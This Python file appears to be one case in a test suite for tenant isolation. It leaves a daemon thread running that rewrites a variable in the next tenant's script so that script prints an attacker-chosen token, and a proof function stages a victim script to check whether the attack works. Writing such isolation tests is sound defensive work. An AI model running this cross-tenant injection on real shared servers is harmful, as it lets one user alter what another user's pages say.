"""Leave a thread that changes what the next tenant's script says."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

# glibc ends a process whose threads do not agree on their credentials (nptl_setxid.c).
MAY_BE_ENDED = True


def attack(given: Given) -> object:
    import sys
    import threading
    import time

    def change(word: str = given.token) -> None:
        deadline = time.monotonic() + 9
        while time.monotonic() < deadline:
            found = vars(sys.modules["__main__"])
            if "word_of_the_neighbour" in found:
                found["word_of_the_neighbour"] = word
            time.sleep(0.001)

    threading.Thread(target=change, daemon=True).start()
    return "waiting"


def proof(scene: Scene) -> str | None:
    scene.put(
        "slow.py",
        "import time\nword_of_the_neighbour = 'innocent'\ntime.sleep(0.2)\n"
        "print('Content-Type: text/plain\\n\\n' + word_of_the_neighbour)\n",
    )
    if scene.token.encode() in scene.visit("slow.py").body:
        return "a thread has put the attacker's word into the neighbour's page"
    return None
